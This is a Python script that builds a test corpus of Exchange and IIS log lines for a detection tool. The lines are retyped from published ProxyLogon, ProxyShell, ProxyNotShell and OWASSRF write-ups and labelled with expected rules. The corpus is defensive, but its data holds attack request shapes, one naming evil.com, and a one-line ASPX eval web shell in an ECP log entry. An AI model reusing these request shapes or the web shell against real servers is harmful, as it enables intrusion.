"""Writes tests/realworld/EXCH01/ (the corpus in real file formats) and manifest.csv from CORPUS below.

Each entry is a line published in a write-up, advisory or thread, retyped into the file format it came
from. Fields the source did not give (server address, ports, time-taken, other HttpProxy columns) are
filled with neutral values and documented-by-example defaults; the fields that carry the evidence are
as published. Run: python tests/realworld/build_corpus.py (the output is committed; the test reads it).
"""

from __future__ import annotations

import csv
from pathlib import Path

from exwatch.logformats import HTTPPROXY_FIELDS, join_exchange_csv

HERE = Path(__file__).parent
ROOT = HERE / "EXCH01"
HELSECERT = "https://github.com/helsecert/2021-march-exchange/blob/main/README.md"
ISSUE100 = "https://github.com/microsoft/CSS-Exchange/issues/100"
QA305695 = "https://docs.microsoft.com/en-us/answers/questions/305695/hafnium-question-1.html"
QA309846 = "https://learn.microsoft.com/en-us/answers/questions/309846/hafnium-targeting-exchange-servers-with-0-day-expl"
SBPR125 = "https://github.com/Neo23x0/signature-base/pull/125"
QAZEER = "https://github.com/Qazeer/artefacts.help/blob/master/pages/others/microsoft_exchange.md"
VOLEXITY = "https://www.volexity.com/blog/2021/03/02/active-exploitation-of-microsoft-exchange-zero-day-vulnerabilities/"
SB_HAFNIUM_LOG = "https://github.com/Neo23x0/signature-base/blob/master/yara/apt_hafnium_log_sigs.yar"
GTSC = "https://gteltsc.vn/blog/warning-new-attack-campaign-utilized-a-new-0day-rce-vulnerability-on-microsoft-exchange-server-12715.html"
SPLUNK = "https://research.splunk.com/endpoint/exchange_powershell_abuse_via_ssrf/"
CROWDSTRIKE = "https://www.crowdstrike.com/blog/owassrf-exploit-analysis-and-recommendations/"
CS_SCRIPT = "https://github.com/CrowdStrike/OWASSRF/blob/main/Rps_Http-IOC.ps1"
SB_PNS = "https://github.com/Neo23x0/signature-base/blob/master/yara/expl_cve_2022_41040_proxynoshell.yar"
SB_POC = "https://github.com/Neo23x0/signature-base/blob/master/yara/vuln_proxynotshell_cve_2022_41040.yar"
SIGMA_PS = "https://github.com/SigmaHQ/sigma/blob/master/rules-emerging-threats/2021/Exploits/ProxyShell-Exploit/web_exchange_proxyshell.yml"
SIGMA_RCE = "https://github.com/SigmaHQ/sigma/pull/1825"
AUTODV2 = "https://github.com/microsoft/CSS-Exchange/blob/main/Shared/Get-ProtocolEndpointViaAutoDv2.ps1"
HAFNIUM = "https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/"
SPLUNK_RPS = "https://github.com/splunk/security_content/blob/develop/detections/endpoint/windows_msexchange_management_mailbox_cmdlet_usage.yml"

CHROME65 = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36"
OWA_TAIL = "&CorrelationID=<empty>;&cafeReqId=5b8e2d3c-1111-4c1e-9a37-0d8f7c2a9e10;&encoding=;"

# (file kind, file, line-or-row, source, expected rule or "none", class, note)
IIS1 = "inetpub/logs/LogFiles/W3SVC1/u_ex210305.log"
IIS2 = "inetpub/logs/LogFiles/W3SVC2/u_ex210303.log"
IIS_PS = "inetpub/logs/LogFiles/W3SVC1/u_ex210820.log"
IIS_PNS = "inetpub/logs/LogFiles/W3SVC1/u_ex221003.log"
HP_ECP = "Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
HP_OWA = "Logging/HttpProxy/Owa/HttpProxy_2021030710-1.LOG"
HP_AUTOD = "Logging/HttpProxy/Autodiscover/HttpProxy_2021022710-1.LOG"
HP_MISC = "Logging/HttpProxy/Ecp/HttpProxy_2023010610-1.LOG"
ECP = "Logging/ECP/Server/ECPServer20210303-1.LOG"
OAB = "Logging/OABGeneratorLog/OABGenerator_20210303.log"


def hp(**kw: str) -> dict[str, str]:
    return kw


def chain(t: str, path: str, status: str, ua: str) -> dict[str, str]:
    return hp(
        DateTime=t,
        Protocol="Ecp",
        UrlHost="mail.example.no",
        UrlStem="/ecp/y.js",
        AuthenticationType="",
        IsAuthenticated="false",
        AnchorMailbox=f"ServerInfo~a]@exch01.example.no:444{path}#",
        UserAgent=ua,
        ClientIpAddress="86.105.18.116",
        HttpStatus=status,
        Method="POST",
        RoutingHint="X-BEResource-Cookie",
    )


CANARY = "msExchEcpCanary=kx0hXc1aW0ip0eQzJyZ3n8yqP4Y2m9gI"
CORPUS: list[tuple[str, str, object, str, str, str, str]] = [
    # --- ProxyLogon: the HelseCERT incident chain (ECP HttpProxy log, 2021-03-03) ---
    (
        "hp",
        HP_ECP,
        chain(
            "2021-03-03T06:59:10.817Z",
            "/autodiscover/autodiscover.xml?",
            "200",
            "ExchangeServicesClient/0.0.0.0",
        ),
        HELSECERT,
        "proxylogon.ssrf_attempt",
        "attack",
        "step 1: LegacyDN via autodiscover",
    ),
    (
        "hp",
        HP_ECP,
        chain("2021-03-03T06:59:11.840Z", "/mapi/emsmdb/?", "200", "python-requests/2.25.1"),
        HELSECERT,
        "proxylogon.ssrf_progressed",
        "attack",
        "step 2: SID via MAPI",
    ),
    (
        "hp",
        HP_ECP,
        chain("2021-03-03T06:59:13.030Z", "/ecp/proxyLogon.ecp?", "241", "python-requests/2.25.1"),
        HELSECERT,
        "proxylogon.ssrf_progressed",
        "attack",
        "step 3: ECP logon (241)",
    ),
    (
        "hp",
        HP_ECP,
        chain(
            "2021-03-03T06:59:14.588Z",
            f"/ecp/DDI/DDIService.svc/GetObject?{CANARY}&schema=OABVirtualDirectory",
            "200",
            "python-requests/2.25.1",
        ),
        HELSECERT,
        "proxylogon.ssrf_progressed",
        "attack",
        "step 4: GetObject",
    ),
    (
        "hp",
        HP_ECP,
        chain(
            "2021-03-03T06:59:18.042Z",
            f"/ecp/DDI/DDIService.svc/SetObject?{CANARY}&schema=OABVirtualDirectory",
            "200",
            "python-requests/2.25.1",
        ),
        HELSECERT,
        "proxylogon.ssrf_progressed",
        "attack",
        "step 5: ExternalUrl set to the shell",
    ),
    (
        "hp",
        HP_ECP,
        chain(
            "2021-03-03T06:59:20.359Z",
            f"/ecp/DDI/DDIService.svc/SetObject?{CANARY}&schema=ResetOABVirtualDirectory",
            "200",
            "python-requests/2.25.1",
        ),
        HELSECERT,
        "proxylogon.ecp_reset_vdir",
        "attack",
        "step 6: reset writes the shell",
    ),
    (
        "hp",
        HP_ECP,
        chain(
            "2021-03-03T06:59:23.288Z",
            f"/ecp/DDI/DDIService.svc/SetObject?{CANARY}&schema=OABVirtualDirectory",
            "200",
            "python-requests/2.25.1",
        ),
        HELSECERT,
        "proxylogon.ssrf_progressed",
        "attack",
        "step 7: ExternalUrl cleared",
    ),
    (
        "hp",
        HP_ECP,
        chain(
            "2021-03-03T06:49:42.101Z",
            "/autodiscover/autodiscover.xml?",
            "200",
            "ExchangeServicesClient/0.0.0.0",
        ),
        HELSECERT,
        "proxylogon.ssrf_attempt",
        "attack",
        "first run, ten minutes earlier",
    ),
    # --- ProxyLogon: the same chain in CSS-Exchange issue 100 (DateTime and AnchorMailbox only) ---
    (
        "hp",
        HP_AUTOD,
        hp(
            DateTime="2021-02-27T10:21:04.415Z",
            UrlStem="/ecp/x.js",
            AnchorMailbox="ServerInfo~a]@exch.contoso.local:444/autodiscover/autodiscover.xml?#",
            HttpStatus="200",
            Method="POST",
        ),
        ISSUE100,
        "proxylogon.ssrf_attempt",
        "attack",
        "columns other than DateTime/AnchorMailbox filled",
    ),
    (
        "hp",
        HP_AUTOD,
        hp(
            DateTime="2021-02-27T10:21:05.502Z",
            UrlStem="/ecp/x.js",
            AnchorMailbox="ServerInfo~a]@exch.contoso.local:444/mapi/emsmdb/?#",
            HttpStatus="200",
            Method="POST",
        ),
        ISSUE100,
        "proxylogon.ssrf_progressed",
        "attack",
        "",
    ),
    (
        "hp",
        HP_AUTOD,
        hp(
            DateTime="2021-02-27T10:21:06.733Z",
            UrlStem="/ecp/x.js",
            AnchorMailbox="ServerInfo~a]@exch.contoso.local:444/ecp/proxyLogon.ecp?#",
            HttpStatus="241",
            Method="POST",
        ),
        ISSUE100,
        "proxylogon.ssrf_progressed",
        "attack",
        "",
    ),
    # --- ProxyLogon: Microsoft Q&A threads ---
    (
        "hp",
        HP_AUTOD,
        hp(
            DateTime="2021-03-03T07:10:58.123Z",
            UrlStem="/ecp/y.js",
            AnchorMailbox="ServerInfo~a]@servername.domain.local:444/autodiscover/autodiscover.xml?#",
            HttpStatus="200",
            Method="POST",
        ),
        QA305695,
        "proxylogon.ssrf_attempt",
        "attempt",
        "stalled at autodiscover",
    ),
    (
        "hp",
        HP_AUTOD,
        hp(
            DateTime="2021-03-04T02:13:44.061Z",
            UrlStem="/ecp/y.js",
            AnchorMailbox="ServerInfo~akak]@servername.domain.local:444/autodiscover/autodiscover.xml?#",
            HttpStatus="200",
            Method="POST",
        ),
        QA309846,
        "proxylogon.ssrf_attempt",
        "attempt",
        "akak]@ variant",
    ),
    (
        "hp",
        HP_OWA,
        hp(
            DateTime="2021-03-06T14:02:10.000Z",
            Protocol="Owa",
            UrlStem="/owa/auth/x.js",
            AuthenticationType="FBA",
            IsAuthenticated="false",
            AnchorMailbox="ServerInfo~localhost/owa/auth/logon.aspx?",
            HttpStatus="500",
            Method="GET",
            RoutingHint="X-AnonResource-Backend-Cookie",
        ),
        QA309846,
        "proxylogon.ssrf_probe",
        "scanner",
        "localhost probe",
    ),
    # --- ProxyLogon: the nmap probe footprint (signature-base PR 125) ---
    (
        "hp",
        HP_OWA,
        hp(
            DateTime="2021-03-07T10:00:00.000Z",
            MajorVersion="15",
            MinorVersion="0",
            BuildVersion="1395",
            RevisionVersion="0",
            Protocol="Owa",
            UrlStem="/owa/auth/x.js",
            AuthenticationType="FBA",
            IsAuthenticated="false",
            AnchorMailbox="ServerInfo~localhost/ecp/default.flt?",
            HttpStatus="500",
            BackEndStatus="500",
            Method="GET",
            ProxyAction="Proxy",
            TargetServer="localhost",
            TargetServerVersion="0.00.0003.000",
            RoutingType="CrossRegion",
            RoutingHint="X-AnonResource-Backend-Cookie",
            GenericInfo="ProxyToDownLevel=True;",
        ),
        SBPR125,
        "proxylogon.ssrf_probe",
        "scanner",
        "Microsoft's nmap probe",
    ),
    # --- Web-shell access after the chain (HelseCERT) ---
    (
        "iis",
        IIS1,
        f"2021-03-05 13:04:26 10.10.1.5 GET /owa/auth/RedirSuiteServerProxy.aspx {OWA_TAIL} 443 - 139.162.202.236 {CHROME65} - 200 0 0 133",
        HELSECERT,
        "webshell.access",
        "attack",
        "shell answered 200",
    ),
    (
        "hp",
        HP_OWA,
        hp(
            DateTime="2021-03-08T01:02:03.000Z",
            Protocol="Owa",
            UrlStem="/owa/auth/RedirSuiteServerProxy.aspx",
            AuthenticationType="",
            IsAuthenticated="false",
            ClientIpAddress="67.205.176.9",
            HttpStatus="200",
            Method="POST",
        ),
        HELSECERT,
        "webshell.access",
        "attack",
        "HttpProxy row for the same shell",
    ),
    # --- ProxyLogon: Volexity / signature-base front-end IIS traces ---
    (
        "iis",
        IIS1,
        "2021-03-05 13:10:00 10.10.1.5 POST /owa/auth/Current/themes/resources/logon.css - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 30",
        VOLEXITY,
        "proxylogon.iis_static_post",
        "attack",
        "POST to a static theme resource",
    ),
    (
        "iis",
        IIS1,
        "2021-03-05 13:10:01 10.10.1.5 POST /ecp/y.js - 443 - 165.232.154.116 ExchangeServicesClient/0.0.0.0 - 200 0 0 30",
        SB_HAFNIUM_LOG,
        "proxylogon.iis_static_post",
        "attack",
        "POST /ecp/y.js 200",
    ),
    (
        "iis",
        IIS1,
        "2021-03-05 13:10:02 10.10.1.5 POST /ecp/default.flt - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 30",
        SB_HAFNIUM_LOG,
        "proxylogon.iis_static_post",
        "attack",
        "",
    ),
    (
        "iis",
        IIS1,
        "2021-03-05 13:10:03 10.10.1.5 POST /ecp/main.css - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 30",
        SB_HAFNIUM_LOG,
        "proxylogon.iis_static_post",
        "attack",
        "",
    ),
    # --- ProxyLogon: back-end IIS reset call under the machine account (Sigma web_cve_2021_26858_iis_rce) ---
    (
        "iis",
        IIS2,
        "2021-03-03 06:59:20 127.0.0.1 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory&msExchEcpCanary=x 444 CONTOSO\\EXCH01$ 127.0.0.1 python-requests/2.25.1 - 200 0 0 210",
        SIGMA_RCE,
        "proxylogon.iis_backend_reset",
        "attack",
        "",
    ),
    # --- ProxyLogon: ECP Server log (HelseCERT) ---
    (
        "ecp",
        ECP,
        '2021-03-03T06:59:18.200Z,EXCH01,ECP.Request,"S:TIME=115;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>\'.Identity=\'7c8a3d55-8e58-4c1f-9d2e-6b2f1c0a9e11\';S:BLD=15.1.2106.2"',
        HELSECERT,
        "proxylogon.ecp_set_vdir_script",
        "attack",
        "the shell in ExternalUrl",
    ),
    (
        "ecp",
        ECP,
        "2021-03-03T06:59:23.100Z,EXCH01,ECP.Request,S:TIME=40;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity='7c8a3d55-8e58-4c1f-9d2e-6b2f1c0a9e11';S:BLD=15.1.2106.2",
        HELSECERT,
        "proxylogon.ecp_set_vdir",
        "attack",
        "clean-up: ExternalUrl cleared",
    ),
    (
        "ecp",
        ECP,
        "2021-03-03T06:59:16.000Z,EXCH01,ECP.Request,S:TIME=20;S:SID=S-1-5-18;S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:BLD=15.1.2106.2",
        HELSECERT,
        "none",
        "benign",
        "a read: no finding by itself",
    ),
    (
        "ecp",
        ECP,
        "2021-03-04T09:00:00.000Z,EXCH01,ECP.Request,S:TIME=90;S:SID=S-1-5-21-1-2-3-500;S:CMD=Pipeline.1|Get-MailboxRegionalConfiguration;S:BLD=15.1.2106.2",
        HELSECERT,
        "none",
        "benign",
        "pipeline item",
    ),
    # --- ProxyLogon: OAB generator (HAFNIUM blog) ---
    (
        "oab",
        OAB,
        "2021-03-03T07:01:00.000Z,OABGenerator,Error,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed",
        HAFNIUM,
        "proxylogon.oab_file_write",
        "attack",
        "path outside ClientAccess\\OAB",
    ),
    (
        "oab",
        OAB,
        "2021-03-03T07:05:00.000Z,OABGenerator,Error,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\b1c2d3.tmp' needs to be removed",
        HAFNIUM,
        "none",
        "benign",
        "the expected OAB temp folder",
    ),
    # --- Benign look-alikes (Qazeer/artefacts.help real samples) ---
    (
        "hp",
        HP_MISC,
        hp(
            DateTime="2023-01-06T10:00:00.000Z",
            MajorVersion="15",
            MinorVersion="1",
            BuildVersion="2375",
            RevisionVersion="7",
            Protocol="Ecp",
            UrlStem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
            AuthenticationType="FBA",
            IsAuthenticated="false",
            AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)",
            UserAgent="Mozilla/5.0 zgrab/0.x",
            HttpStatus="200",
            BackEndStatus="200",
            Method="GET",
            RoutingType="IntraForest",
            RoutingHint="EDiscoveryExportTool-ServerVersion",
            ResponseBytes="10112",
        ),
        QAZEER,
        "none",
        "scanner",
        "zgrab version fingerprinting",
    ),
    (
        "hp",
        HP_MISC,
        hp(
            DateTime="2023-01-06T10:01:00.000Z",
            Protocol="Autodiscover",
            UrlStem="/autodiscover/autodiscover.xml",
            AuthenticationType="NTLM",
            IsAuthenticated="true",
            AuthenticatedUser="DOMAIN\\username",
            AnchorMailbox="Sid~S-1-5-21-1004336348-1177238915-682003330-1105",
            HttpStatus="200",
            Method="POST",
            RoutingType="IntraForest",
            RoutingHint="WindowsIdentity",
        ),
        QAZEER,
        "none",
        "benign",
        "normal Outlook autodiscover",
    ),
    (
        "hp",
        HP_MISC,
        hp(
            DateTime="2023-01-06T10:02:00.000Z",
            Protocol="Eas",
            UrlStem="/Microsoft-Server-ActiveSync/default.eas",
            AuthenticationType="Basic",
            IsAuthenticated="false",
            HttpStatus="403",
            Method="OPTIONS",
        ),
        QAZEER,
        "none",
        "benign",
        "ActiveSync OPTIONS",
    ),
    # --- ProxyShell ---
    (
        "iis",
        IIS_PS,
        "2021-08-20 11:00:00 10.10.1.5 POST /autodiscover/autodiscover.json a=dsxvu@fnsso.flq/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBRBZG1pbmlzdHJhdG9yQGZuc3NvLmZscQ== 443 - 198.51.100.23 python-requests/2.26.0 - 200 0 0 1043",
        SPLUNK,
        "proxyshell.rps_cat",
        "attack",
        "status not in the source: 200 filled",
    ),
    (
        "iis",
        IIS_PS,
        "2021-08-20 11:00:05 10.10.1.5 GET /autodiscover/autodiscover.json @foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com 443 - 198.51.100.23 python-requests/2.26.0 - 401 0 0 15",
        SIGMA_PS,
        "proxyshell.autodiscover_attempt",
        "attempt",
        "json?@foo.com honeypot shape, 401",
    ),
    (
        "iis",
        IIS_PS,
        "2021-08-20 11:00:06 10.10.1.5 GET /autodiscover/autodiscover.json @foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com 443 - 198.51.100.23 python-requests/2.26.0 - 200 0 0 15",
        SIGMA_PS,
        "proxyshell.autodiscover_success",
        "attack",
        "same shape answered 200",
    ),
    (
        "iis",
        IIS_PS,
        "2021-08-20 11:01:00 10.10.1.5 GET /autodiscover/autodiscover.json @test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com 443 - 192.0.2.77 Mozilla/5.0+(compatible;+Nessus) - 302 0 0 10",
        SB_PNS,
        "proxyshell.autodiscover_scanner",
        "scanner",
        "Nessus probe",
    ),
    (
        "iis",
        IIS_PS,
        f"2021-08-20 11:01:01 10.10.1.5 GET /owa/ &Email=autodiscover/autodiscover.json%3F@test.com&ClientId=QWERTYUIOP{OWA_TAIL} 443 - 192.0.2.77 Mozilla/5.0+(compatible;+Nessus) - 302 0 0 10",
        SB_PNS,
        "proxyshell.autodiscover_scanner",
        "scanner",
        "Nessus probe, /owa/ form",
    ),
    (
        "iis",
        IIS_PS,
        "2021-08-20 11:05:00 10.10.1.5 GET /autodiscover/autodiscover.json/v1.0/jane@contoso.com Protocol=ActiveSync&RedirectCount=1 443 - 192.0.2.10 Outlook-iOS-Android/1.0 - 200 0 0 45",
        AUTODV2,
        "none",
        "benign",
        "Autodiscover v2 (the form CSS-Exchange itself requests)",
    ),
    # --- ProxyNotShell (GTSC, testanull PoC) ---
    (
        "iis",
        IIS_PNS,
        "2022-09-15 03:12:45 10.10.1.5 POST /autodiscover/autodiscover.json @evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell 443 - 137.184.67.33 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 85",
        GTSC,
        "proxynotshell.autodiscover_powershell",
        "attack",
        "GTSC request shape",
    ),
    (
        "iis",
        IIS_PNS,
        "2022-11-17 09:00:00 10.10.1.5 POST /autodiscover/autodiscover.json x=a 443 CONTOSO\\jane 198.51.100.60 python-requests/2.28.1 - 200 0 0 40",
        SB_POC,
        "proxynotshell.poc_trace",
        "attack",
        "testanull PoC trace",
    ),
    (
        "iis",
        IIS_PNS,
        "2022-11-17 09:00:01 10.10.1.5 POST /autodiscover/admin@localhost/powershell/ - 443 CONTOSO\\jane 198.51.100.60 python-requests/2.28.1 - 200 0 0 40",
        SB_POC,
        "proxynotshell.poc_trace",
        "attack",
        "testanull PoC trace",
    ),
    # --- OWASSRF (CrowdStrike) ---
    (
        "iis",
        IIS_PNS,
        "2022-12-20 14:03:11 10.10.1.5 POST /owa/mastermailbox%40outlook.com/powershell - 443 CONTOSO\\jane 198.51.100.40 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/105.0.0.0+Safari/537.36 - 200 0 0 1002",
        CROWDSTRIKE,
        "proxynotshell.owassrf",
        "attack",
        "",
    ),
    (
        "iis",
        IIS_PNS,
        "2022-12-20 14:20:00 10.10.1.5 POST /powershell clientApplication=ManagementShell;PSVersion=5.1.17763.1852 80 CONTOSO\\admin 10.10.1.20 Microsoft+WinRM+Client - 200 0 0 312",
        CS_SCRIPT,
        "none",
        "benign",
        "normal remote PowerShell (ClientInfo Microsoft WinRM Client)",
    ),
    (
        "iis",
        IIS_PNS,
        "2022-12-20 14:21:00 10.10.1.5 POST /owa/auth.owa - 443 - 192.0.2.10 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 302 0 0 60",
        CROWDSTRIKE,
        "none",
        "benign",
        "OWA logon form post",
    ),
]

IIS_HEADER = [
    "#Software: Microsoft Internet Information Services 10.0",
    "#Version: 1.0",
    "#Date: {date} 00:00:00",
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
]
HP_HEADER = [
    "#Software: Microsoft Exchange Server",
    "#Version: 15.01.2106.002",
    "#Log-type: HttpProxy Logs",
    "#Date: {date}",
    "#Fields: " + ",".join(HTTPPROXY_FIELDS),
]
ECP_HEADER = [
    "#Software: Microsoft Exchange Server",
    "#Version: 15.0.0.0",
    "#Log-type: ECP Server Log",
    "#Date: {date}",
    "#Fields: TimeStamp,ServerName,EventId,EventData",
]


def main() -> None:
    files: dict[str, list[tuple[str, object]]] = {}
    for kind, rel, item, *_ in CORPUS:
        files.setdefault(rel, []).append((kind, item))
    where: dict[int, tuple[str, int]] = {}
    for rel, items in files.items():
        kind = items[0][0]
        first = items[0][1]
        date = (first["DateTime"] if isinstance(first, dict) else str(first))[:10]
        header = {"iis": IIS_HEADER, "hp": HP_HEADER, "ecp": ECP_HEADER}.get(kind, [])
        lines = [h.format(date=date) for h in header]
        for _k, item in items:
            line = (
                join_exchange_csv([item.get(f, "") for f in HTTPPROXY_FIELDS])
                if isinstance(item, dict)
                else str(item)
            )
            lines.append(line)
            idx = next(i for i, c in enumerate(CORPUS) if c[2] is item)
            where[idx] = (rel, len(lines))
        path = ROOT / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        # Exchange and IIS write CRLF.
        path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    with (HERE / "manifest.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["file", "line", "source", "expected", "class", "note"])
        for i, (_kind, _rel, _item, source, expected, klass, note) in enumerate(CORPUS):
            rel, line = where[i]
            w.writerow([rel, line, source, expected, klass, note])


if __name__ == "__main__":
    main()
